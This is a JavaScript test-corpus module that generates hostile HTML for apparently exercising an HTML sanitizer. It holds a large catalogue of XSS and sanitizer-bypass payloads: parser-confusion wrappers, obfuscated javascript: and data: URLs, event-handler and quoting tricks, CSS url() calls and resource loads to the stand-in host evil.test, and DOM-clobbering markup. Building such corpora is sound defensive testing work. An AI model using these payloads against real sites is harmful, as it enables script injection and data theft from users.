'use strict';

// Hostile HTML, made from classes of attack: wrappers that parsers read in different ways, around payloads that run; URLs, by
// carrier; event handlers; quoting; styles; and single cases. Each calls pwn(), asks evil.test for something, or changes what a page means.

/** What runs if it becomes markup. @type {Record<string, string>} */
const PAYLOADS = {
  image: '<img src=x onerror=pwn()>',
  script: '<script>pwn()</script>',
  frame: `<iframe srcdoc='<script>pwn()</script>'></iframe>`,
  style: '<style onload=pwn()></style>',
};

/** Escaped once, for attributes that a second parse may open. @param {string} text */
const quoted = (text) => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;');

/** @type {Record<string, (p: string) => string>} */
const WRAPPERS = {
  nothing: (p) => p,
  'an unknown element': (p) => `<x-y>${p}</x-y>`,
  'an element that is not closed': (p) => `<b><i>${p}`,
  'end tags alone': (p) => `</p></br></b>${p}</div></table>`,
  'raw text: textarea': (p) => `<textarea></textarea/>${p}`,
  'raw text: textarea in an attribute': (p) => `<textarea><a title="</textarea>${quoted(p)}">`,
  'raw text: title in an attribute': (p) => `<title><a title="</title>${quoted(p)}"></title>`,
  'raw text: style in an attribute': (p) => `<style><a title="</style>${quoted(p)}">`,
  'raw text: script in a comment': (p) => `<script><!--<script></script>${p}-->`,
  'raw text: script with spaces in the end tag': (p) => `<script>1</script\n x>${p}`,
  'raw text: xmp': (p) => `<xmp><p title="</xmp>${quoted(p)}">`,
  'raw text: noembed': (p) => `<noembed><p title="</noembed>${quoted(p)}">`,
  'raw text: noframes': (p) => `<noframes><p title="</noframes>${quoted(p)}">`,
  'raw text: iframe': (p) => `<iframe><p title="</iframe>${quoted(p)}">`,
  'raw text: noscript': (p) => `<noscript><p title="</noscript>${quoted(p)}">`,
  'raw text: noscript with style': (p) => `<noscript><style></noscript>${p}</style>`,
  'raw text: plaintext': (p) => `<p title="<plaintext>${quoted(p)}"><plaintext>${p}`,
  'raw text: listing and pre': (p) => `<listing>\n\n${p}</listing><pre>\n\n${p}</pre>`,
  'svg: style': (p) => `<svg><style>${p}</style></svg>`,
  'svg: style with an end tag in an attribute': (p) => `<svg><style><a title="</style>${quoted(p)}"></style></svg>`,
  'svg: title': (p) => `<svg><title>${p}</title></svg>`,
  'svg: title with style': (p) => `<svg><title><style><a title="</title>${quoted(p)}"></style></title></svg>`,
  'svg: desc': (p) => `<svg><desc><div>${p}</div></desc></svg>`,
  'svg: foreignObject': (p) => `<svg><foreignObject><body>${p}</body></foreignObject></svg>`,
  'svg: p leaves': (p) => `<svg></p><style><a title="</style>${quoted(p)}">`,
  'svg: br leaves': (p) => `<svg><br><textarea><p title="</textarea>${quoted(p)}">`,
  'svg: font leaves': (p) => `<svg><font color=red><xmp><p title="</xmp>${quoted(p)}">`,
  'svg: script is not raw': (p) => `<svg><script>&lt;/script&gt;${p}</script></svg>`,
  'svg: comment in style': (p) => `<svg><style><!--</style>${p}--></style></svg>`,
  'svg: CDATA': (p) => `<svg><![CDATA[${p}]]></svg>`,
  'svg: CDATA that HTML closes': (p) => `<svg><![CDATA[><p>]]>${p}</svg>`,
  'svg: noscript': (p) => `<svg><noscript><style></noscript>${p}</style></noscript></svg>`,
  'svg: math inside': (p) => `<svg><math><mi><style>${p}</style></mi></math></svg>`,
  'svg: use and animate': (p) =>
    `<svg><use href="#a"/><animate href=#a attributeName=href values="javascript:pwn()"/>${p}</svg>`,
  'math: mtext with style': (p) => `<math><mtext><style><a title="</style>${quoted(p)}"></style></mtext></math>`,
  'math: mglyph in a table': (p) => `<math><mtext><table><mglyph><style><!--</style><a title="--&gt;${quoted(p)}">`,
  'math: malignmark': (p) => `<math><mi><malignmark><style><p title="</style>${quoted(p)}">`,
  'math: annotation-xml as HTML': (p) =>
    `<math><annotation-xml encoding="text/html"><style><p title="</style>${quoted(p)}"></annotation-xml></math>`,
  'math: annotation-xml as XHTML': (p) =>
    `<math><annotation-xml encoding="application/xhtml+xml">${p}</annotation-xml></math>`,
  'math: annotation-xml without encoding': (p) =>
    `<math><annotation-xml><svg><foreignObject>${p}</foreignObject></svg></annotation-xml></math>`,
  'math: annotation-xml with svg': (p) =>
    `<math><annotation-xml encoding="SVG1.1"><svg><style>${p}</style></svg></annotation-xml></math>`,
  'math: xlink': (p) => `<math xlink:href="javascript:pwn()"><mrow href="javascript:pwn()">${p}</mrow></math>`,
  'math: select inside': (p) => `<math><mtext><select><mglyph><svg><style>${p}</style></svg></select></mtext></math>`,
  'form: nested': (p) => `<form><div></form><form>${p}</form>`,
  'form: nested around math': (p) => `<form><math><mtext></form><form><mglyph><style></math>${p}</style></form>`,
  'table: foster parenting': (p) => `<table>${p}<tr>${p}</table>`,
  'table: foster parenting of a link': (p) => `<table><a href="#"><tr><td></a>${p}</td></tr></table>`,
  'table: caption and nested tables': (p) =>
    `<table><caption><table><tr><svg><desc><td>${p}</td></desc></svg></table></caption></table>`,
  'table: colgroup with a template': (p) => `<table><colgroup><template>${p}</template></colgroup></table>`,
  'adoption agency': (p) => `<a><b><a><b><a>${p}</b></a></b></a>`,
  'adoption agency with blocks': (p) => `<b><p><i></b><div></i></p>${p}</div>`,
  'adoption agency with nobr': (p) => `<nobr><nobr><p><nobr>${p}</p></nobr>`,
  'adoption agency, eight deep': (p) => `${'<b>'.repeat(9)}<p>${'</b>'.repeat(9)}${p}</p>`,
  template: (p) => `<template>${p}</template>`,
  'template in a template': (p) => `<template><template>${p}</template></template>`,
  'template of a shadow root': (p) => `<div><template shadowrootmode="open">${p}</template></div>`,
  'select: outside its content': (p) => `<select><div>${p}</div><option>a</select>`,
  'select: option with svg': (p) => `<select><option><svg><style>${p}</style></svg></option></select>`,
  'select: selectedcontent': (p) =>
    `<select><button><selectedcontent></selectedcontent></button><option selected>${p}</option></select>`,
  'select: keygen and input': (p) => `<select><keygen><input>${p}</select>`,
  frameset: (p) => `<frameset><frame src="javascript:pwn()"></frameset>${p}`,
  'head and body': (p) => `<html onclick=pwn()><head>${p}</head><body onload=pwn()>${p}</body></html>`,
  'comment: usual': (p) => `<!-- --> ${p} <!-- -->`,
  'comment: ends with a bang': (p) => `<!-- --!>${p}-->`,
  'comment: empty': (p) => `<!-->${p}-->`,
  'comment: empty with a hyphen': (p) => `<!--->${p}-->`,
  'comment: nested': (p) => `<!-- <!-- -->${p} -->`,
  'comment: bogus': (p) => `<!x>${p}<?x ?>${p}</ x>${p}`,
  'comment: conditional': (p) => `<!--[if gte IE 4]>${p}<![endif]-->`,
  'comment: DOCTYPE': (p) => `<!DOCTYPE html [<!ENTITY a "${quoted(p)}">]>${p}`,
  'comment: in an attribute': (p) => `<p title="-->${quoted(p)}"><!-- <p title="--></p>`,
  'depth: 600 elements': (p) => `${'<div>'.repeat(600)}${p}`,
  'depth: 520 in svg': (p) => `${'<div>'.repeat(505)}<svg>${'<g>'.repeat(10)}<desc>${p}</desc></svg>`,
  'depth: 300 formats': (p) => `${'<b>'.repeat(300)}<table>${p}`,
  'references: in text': (p) => p.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  'references: without semicolons': (p) => p.replaceAll('<', '&lt').replaceAll('>', '&#62'),
  'references: twice': (p) => p.replaceAll('<', '&amp;lt;'),
  'references: zero-padded': (p) => p.replaceAll('<', '&#0000060;').replaceAll('>', '&#x000003e;'),
  'characters: NUL in names': (p) => p.replace(/<(\w)/g, '<\0$1').replace(/<\0?(\w)(\w)/g, '<$1\0$2') + p,
  'characters: NUL between': (p) => `\0${p}\0<\0b>`,
  'characters: form feed for space': (p) => p.replaceAll(' ', '\f'),
  'characters: slash for space': (p) => p.replaceAll(' ', '/'),
  'characters: full-width': (p) => p.replaceAll('<', '＜').replaceAll('>', '＞') + p,
  'characters: half a pair': (p) => `\ud83d${p}\ude00`,
  'characters: UTF-7': (p) => `+ADw-script+AD4-pwn()+ADw-/script+AD4- ${p}`,
  'characters: upper case': (p) => p.replace(/<\/?\w+/g, (tag) => tag.toUpperCase()),
  'characters: Kelvin and long s': (p) => `${p.replace(/<(s)/g, '<\u017f')}<lin\u212a href=//evil.test>`,
  'tags: less-than twice': (p) => `<${p}<<${p}`,
  'tags: a tag in a tag': (p) => p.replace(/^<(\w)/, '<$1<$1').replace('<<', '<') + p.replace(/<(\w+)/, '<$1<x '),
  'tags: what a filter would remove': (p) =>
    p.replace(/<(\w)(\w+)/g, '<$1<$1$2>$2').concat(`<scr<script>ipt>pwn()</scr</script>ipt>`),
  'tags: not closed at the end': (p) => p.replace(/>[^>]*$/, ' '),
  'tags: attributes on the end tag': (p) => `<p></p onclick=pwn() x="${quoted(p)}">`,
  'template language': (p) => `{{constructor.constructor('pwn()')()}} \${pwn()} <%= pwn() %> ${quoted(p)}`,
};

const URLS = [
  'javascript:pwn()',
  'JaVaScRiPt:pwn()',
  'java\tscript:pwn()',
  'java\nscript:pwn()',
  'java\rscript:pwn()',
  'javascript\t:pwn()',
  '\tjavascript:pwn()',
  '\x01javascript:pwn()',
  '\x1f \x00javascript:pwn()',
  '\u00a0javascript:pwn()',
  '\u2028javascript:pwn()',
  '\ufeffjavascript:pwn()',
  '&#106;avascript:pwn()',
  '&#0000106avascript:pwn()',
  '&#x6A;&#x61;vascript&colon;pwn()',
  'javascript&colon;pwn&lpar;&rpar;',
  'jav&Tab;ascript&NewLine;:pwn()',
  'java&#x09;script:pwn()',
  'java&#13;script:pwn()',
  'javascript://evil.test/%0apwn()',
  'javascript:/*-->*/pwn()',
  'javascript:void 0;pwn()//https://example.com',
  'view-source:javascript:pwn()',
  'jar:javascript:pwn()',
  'feed:javascript:pwn()',
  'vbscript:pwn()',
  'livescript:pwn()',
  'mocha:pwn()',
  'data:text/html,<script>pwn()</script>',
  'data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22pwn()%22/>',
  'data:application/xhtml+xml,<script xmlns=%22http://www.w3.org/1999/xhtml%22>pwn()</script>',
  'data:,x',
  'blob:http://app.test/1',
  'filesystem:http://app.test/temporary/x',
  'file:///etc/passwd',
  'about:blank#<script>',
  'ms-settings:x',
  '//javascript:pwn()',
  '/\\evil.test',
  '\\\\evil.test',
  'https:evil.test',
  'ht\ntps://evil.test',
  'https://evil.test\\@example.com',
  'https://example.com@evil.test/',
  'https://xn--evl-1ma.test/',
];

/** @type {Record<string, (url: string) => string>} */
const CARRIERS = {
  'a href': (url) => `<a href="${url}">x</a>`,
  'a href, without quotes': (url) => `<a href=${url.replace(/[\s>]/g, (c) => `&#${c.charCodeAt(0)};`)}>x</a>`,
  'area href': (url) => `<map name=m><area href='${url}' shape=default></map><img usemap=#m src=data:,>`,
  'form action and formaction': (url) =>
    `<form action="${url}"><button formaction="${url}">x</button><input type=image formaction="${url}"></form>`,
  'svg a': (url) =>
    `<svg><a xlink:href="${url}"><text y=9>x</text></a><a href="${url}"><rect width=9 height=9 /></a></svg>`,
  'svg set and animate': (url) =>
    `<svg><a><set attributeName="href" to="${url}"/><animate attributeName=xlink:href values="${url}"/><text y=9>x</text></a></svg>`,
  frames: (url) => `<iframe src="${url}"></iframe><embed src="${url}"><object data="${url}"></object>`,
  'other elements': (url) =>
    `<link rel=stylesheet href="${url}"><base href="${url}"><meta http-equiv=refresh content="0;url=${url}">`,
};

const EVENTS = (
  'onclick onerror onload onfocus onblur onmouseover onmouseenter onpointerdown ontoggle onbeforetoggle onanimationstart ' +
  'onanimationend ontransitionend onscroll onscrollend onwheel oninput onchange onsubmit onreset oninvalid onselect onkeydown ' +
  'onpaste oncut ondrag ondrop oncontextmenu onplay oncanplay onloadstart onloadeddata ontimeupdate onratechange onbegin onend ' +
  'onrepeat onstart onfinish onbounce onhashchange onpageshow onpopstate onmessage onresize onunload oncuechange onsearch ' +
  'onsecuritypolicyviolation onslotchange oncommand onbeforematch oncontentvisibilityautostatechange onfocusin onscrollsnapchange ' +
  'ONCLICK onx'
).split(' ');

/** How a handler may be written. @type {Record<string, (name: string) => string>} */
const HANDLERS = {
  'with quotes': (name) => `<p ${name}="pwn()" tabindex=0 title='"'>x</p>`,
  'on elements that fire by themselves': (name) =>
    `<img src=x ${name}=pwn()><details open ${name}=pwn()><input autofocus ${name}=pwn()><svg ${name}=pwn()></svg><marquee ${name}=pwn()>x</marquee>`,
};

const QUOTING = [
  '<a title=x onclick=pwn()>x</a>',
  '<a title=`x onclick=pwn()`>x</a>',
  '<a title="x" "onclick=pwn()">x</a>',
  `<a title='x'onclick='pwn()'>x</a>`,
  '<a/title=x/onclick=pwn()>x</a>',
  '<a title="x"onclick="pwn()">x</a>',
  '<a title = x onclick = pwn() >x</a>',
  '<a title=x\fonclick=pwn()>x</a>',
  '<a title=x\x0bonclick=pwn()>x</a>',
  '<a title=x\u00a0onclick=pwn()>x</a>',
  '<a =onclick=pwn()>x</a>',
  '<a ="x" onclick=pwn()>x</a>',
  '<a on\0click=pwn()>x</a>',
  '<a onclick\0=pwn()>x</a>',
  '<a \0onclick=pwn()>x</a>',
  '<a onclick=pwn() onclick=1>x</a>',
  '<a title="a" title="b" onclick="pwn()">x</a>',
  '<a title="&quot; onclick=&quot;pwn()">x</a>',
  `<a title='" onclick="pwn()'>x</a>`,
  '<a title="` onclick=pwn() `">x</a>',
  '<a title=&quot;onclick=pwn()&quot;>x</a>',
  '<a title="<img src=x onerror=pwn()>">x</a>',
  '<a title="x>" onclick="pwn()">x</a>',
  '<a title=">"><img src=x onerror=pwn()>">x</a>',
  '<a title=\'></a><img src=x onerror="pwn()">\'>x</a>',
  '<img src="x` `<script>pwn()</script>"` `>',
  '<a xml:onclick=pwn() xlink:onclick=pwn() x:onclick=pwn()>x</a>',
  '<a on-click=pwn() @click=pwn() :onclick=pwn() v-on:click=pwn() ng-click=pwn() x-on:click=pwn()>x</a>',
  '<a data-bind="click: pwn()" data-toggle=modal data-action=pwn data-remote=true data-method=delete hx-on:click=pwn()>x</a>',
  '<p><a title="</p><script>pwn()</script>">x</a>',
];

const STYLES = [
  'background:url(//evil.test/a)',
  'background:URL("//evil.test/a")',
  "background-image:url('https://evil.test/a')",
  'background:\\75 rl(//evil.test/a)',
  'background:u/**/rl(//evil.test/a)',
  'background:image-set("https://evil.test/a" 1x)',
  'background:-webkit-image-set(url(//evil.test/a) 1x)',
  'background:cross-fade(url(//evil.test/a), red)',
  'list-style:url(//evil.test/a)',
  'content:url(//evil.test/a)',
  'cursor:url(//evil.test/a),auto',
  'border-image:url(//evil.test/a) 1',
  'mask:url(//evil.test/a)',
  'filter:url(//evil.test/a#b)',
  'shape-outside:url(//evil.test/a)',
  '--a:url(//evil.test/a);background:var(--a)',
  'width:expression(pwn())',
  'width:e\\78 pression(pwn())',
  'behavior:url(//evil.test/a.htc)',
  '-moz-binding:url(//evil.test/a.xml#b)',
  'position:fixed;inset:0;z-index:9999;background:red',
  'color:red;}</style><script>pwn()</script>',
  'color:"\\";background:url(//evil.test/a);"',
  "font-family:'a;background:url(//evil.test/a)",
  'color:red;@import "//evil.test/a"',
  'animation:x 1s;-webkit-animation-name:x',
  'color:red\0;background:url(//evil.test/a)',
  'background:ｕrl(//evil.test/a)',
];

const SINGLES = [
  '<img src=https://evil.test/a srcset="javascript:pwn() 1x, https://evil.test/b 2x" onerror=pwn()>',
  '<picture><source srcset="data:image/svg+xml,<svg onload=pwn()>"><img src=x onerror=pwn()></picture>',
  '<img src="x" lowsrc="javascript:pwn()" dynsrc="javascript:pwn()" longdesc="javascript:pwn()">',
  '<image src=x onerror=pwn()>',
  '<img src=x:x onerror=pwn() is=x-y>',
  '<video poster=javascript:pwn() src=x onerror=pwn()><source onerror=pwn() src=x></video>',
  '<audio src=x onerror=pwn()></audio><video><track src=//evil.test/t default></video>',
  '<table background="//evil.test/a"><td background="javascript:pwn()">x</table>',
  '<body background="//evil.test/a" onload=pwn()>',
  '<a ping="https://evil.test/p" href="#x">x</a>',
  '<a href="https://example.com" target="_blank">x</a>',
  '<a href="https://example.com" target="_top" rel="opener" attributionsrc="https://evil.test/">x</a>',
  '<blockquote cite="javascript:pwn()">x</blockquote><q cite="javascript:pwn()">x</q><del cite=javascript:pwn()>x</del>',
  '<iframe src="//evil.test/f"></iframe>',
  '<iframe srcdoc="<img src=x onerror=pwn()>" sandbox="allow-scripts allow-same-origin"></iframe>',
  '<iframe src=javascript:pwn() csp="x" credentialless></iframe>',
  '<object data="//evil.test/o" type="text/html"><param name=x value=javascript:pwn()></object>',
  '<object type="image/svg+xml" data="data:image/svg+xml,<svg/onload=pwn()>"></object>',
  '<embed src="//evil.test/e" type="text/html"><applet code=x archive=//evil.test/a></applet>',
  '<fencedframe></fencedframe><portal src="//evil.test/p"></portal>',
  '<link rel=stylesheet href=//evil.test/c>',
  '<link rel=preload as=image href=//evil.test/c><link rel=prefetch href=//evil.test/d><link rel=preconnect href=//evil.test>',
  '<link rel=import href=//evil.test/i><link rel=manifest href=//evil.test/m><link rel=icon href=//evil.test/i.ico>',
  '<link rel=modulepreload href=//evil.test/m.js><script type=importmap>{"imports":{"x":"//evil.test/x"}}</script>',
  '<script type=speculationrules>{"prefetch":[{"urls":["https://evil.test/s"]}]}</script>',
  '<script type=module>pwn()</script><script src=//evil.test/s.js></script>',
  '<script async src="data:text/javascript,pwn()"></script>',
  '<style>@import url(//evil.test/c);</style>',
  '<style>body{background:url(//evil.test/b)}</style><p>x</p>',
  '<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=pwn()>x</p>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn()">',
  '<meta http-equiv="refresh" content="0; url=https://evil.test/r">',
  '<meta http-equiv=set-cookie content="a=b"><meta http-equiv=content-security-policy content="script-src *"><meta charset=utf-7>',
  '<meta name=referrer content=unsafe-url><meta name=viewport content="width=9">',
  '<base href="https://evil.test/"><img src="a.png"><a href="b">x</a>',
  '<base target=_top><a href="#x">x</a>',
  '<form action=javascript:pwn()><input type=submit></form>',
  '<form id=f action=https://evil.test/f><input name=q></form><button form=f>x</button><input type=submit form=f formaction=javascript:pwn()>',
  '<button form=f formaction="javascript:pwn()" type=submit>x</button><form id=f></form>',
  '<isindex action=javascript:pwn() type=image><input type=image src=//evil.test/i onerror=pwn()>',
  '<input autofocus onfocus=pwn()><select autofocus onfocus=pwn()><textarea autofocus onfocus=pwn()>',
  '<keygen autofocus onfocus=pwn()><math autofocus tabindex=0 onfocus=pwn()>x</math>',
  '<details open ontoggle=pwn()><summary>x</summary></details>',
  '<dialog open onclose=pwn() oncancel=pwn()><form method=dialog><button autofocus>x</button></form></dialog>',
  '<button popovertarget=p>x</button><p id=p popover onbeforetoggle=pwn() ontoggle=pwn()>x</p>',
  '<button commandfor=d command=show-modal>x</button><dialog id=d oncommand=pwn()>x</dialog>',
  '<button interestfor=p>x</button><p id=p popover=hint oninterest=pwn()>x</p>',
  '<marquee onstart=pwn() loop=1 width=0>x</marquee><bgsound src=javascript:pwn()>',
  '<p hidden=until-found onbeforematch=pwn() id=x>x</p><a href=#x>x</a>',
  '<p contenteditable onbeforeinput=pwn() oninput=pwn() autofocus onfocus=pwn()>x</p>',
  '<p style="content-visibility:auto" oncontentvisibilityautostatechange=pwn()>x</p>',
  '<slot onslotchange=pwn() name=x></slot><p slot=x part=y exportparts=z>x</p>',
  '<x-evil onclick=pwn()>x</x-evil><p is=x-evil>x</p>',
  '<form><input name=attributes><input name=parentNode><input name=innerHTML><img src=x onerror=pwn()></form>',
  '<img name=cookie><img id=body name=body><form name=forms></form><embed name=getElementById>',
  '<a id=config></a><a id=config name=url href="https://evil.test/x">x</a>',
  '<form id=location><input id=href name=href value=javascript:pwn()></form>',
  '<iframe name=self srcdoc="<a id=x href=//evil.test></a>"></iframe>',
  '<p id=__proto__>x</p><p id=constructor name=prototype>x</p>',
  '<svg><script href="data:text/javascript,pwn()"/></svg>',
  '<svg><script xlink:href="//evil.test/s.js"></script></svg>',
  '<svg><image href=x onerror=pwn() /><image xlink:href="//evil.test/i"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=%22http://www.w3.org/2000/svg%22><script>pwn()</script></svg>#x"/></svg>',
  '<svg><use xlink:href="//evil.test/u.svg#x"/><feImage href="//evil.test/f"/></svg>',
  '<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>',
  '<svg><set attributeName=onmouseover to=pwn()><rect width=99 height=99 /></svg>',
  '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:pwn()"><rect width=99 height=99 /></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>pwn()</script>"></iframe></foreignObject></svg>',
  '<svg><discard onbegin=pwn() /><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>pwn()</handler></svg>',
  '<svg style="background:url(//evil.test/s)" fill="url(//evil.test/f#x)" filter="url(//evil.test/g#x)"></svg>',
  '<math><mi href="javascript:pwn()">x</mi><maction actiontype="statusline#//evil.test" xlink:href="javascript:pwn()">x</maction></math>',
  '<math><mglyph src="//evil.test/g"></mglyph><mstyle background="url(//evil.test/b)">x</mstyle></math>',
  '<xml id=x><x><![CDATA[<img src=x onerror=pwn()>]]></x></xml><span datasrc=#x datafld=x dataformatas=html></span>',
  '<xss style="behavior:url(//evil.test/x)"><?import namespace=x implementation=//evil.test/x>',
  '<a href="#" onclick="pwn()" role=button aria-label="x" accesskey=x>x</a>',
  '<label for=x onclick=pwn()>x</label><output onclick=pwn()>x</output><fieldset onclick=pwn()>x</fieldset>',
  '<applet onerror=pwn()></applet><basefont color=red><layer src=//evil.test/l></layer><ilayer src=javascript:pwn()></ilayer>',
  '<center><font color="expression(pwn())" size="1" face="url(//evil.test)">x</font></center>',
  '<time datetime="<script>pwn()</script>">x</time><meter value="1" onclick=pwn()>x</meter>',
  '<textarea>&lt;/textarea>&lt;img src=x onerror=pwn()></textarea>',
  '<p>a<wbr onclick=pwn()>b<hr onclick=pwn()>c<br onclick=pwn()>d</p>',
  '<ol type="x" start="1" onclick=pwn()><li value="x" onclick=pwn()>x</ol><dl onclick=pwn()><dt>x<dd>y</dl>',
  '<ruby onclick=pwn()>x<rt onclick=pwn()>y<rp>z</ruby><bdo dir=rtl onclick=pwn()>x</bdo>',
  '<canvas onclick=pwn() id=c></canvas><noscript><img src=x onerror=pwn()></noscript>',
  '<img src=x onerror=eval(atob("cHduKCk="))>',
  '<img src=x onerror="window[`pw`+`n`]()">',
  '<img/src/onerror=pwn()>',
  '<img src onerror\n=\npwn()\n>',
];

/** @returns {{ name: string, html: string }[]} */
function hostileHtml() {
  const all = [];
  const each = (
    /** @type {string} */ kind,
    /** @type {readonly string[]} */ list,
    /** @type {(one: string) => string} */ make,
  ) =>
    list.forEach((one, i) => {
      all.push({ name: `${kind} ${i}: ${one.slice(0, 40)}`, html: make(one) });
    });
  for (const [wrapper, wrap] of Object.entries(WRAPPERS)) {
    for (const [payload, text] of Object.entries(PAYLOADS))
      all.push({ name: `${wrapper}, ${payload}`, html: wrap(text) });
  }
  for (const [carrier, carry] of Object.entries(CARRIERS))
    each(`url in ${carrier}`, URLS, (url) => carry(url.replaceAll('"', '&quot;')));
  for (const [handler, write] of Object.entries(HANDLERS)) each(`event ${handler}`, EVENTS, write);
  each('quoting', QUOTING, (html) => html);
  each(
    'style',
    STYLES,
    (style) => `<p style="${style.replaceAll('"', '&quot;')}">x</p><a style='${style.replaceAll("'", '&#39;')}'>y</a>`,
  );
  each('single', SINGLES, (html) => html);
  return all;
}

module.exports = { hostileHtml };
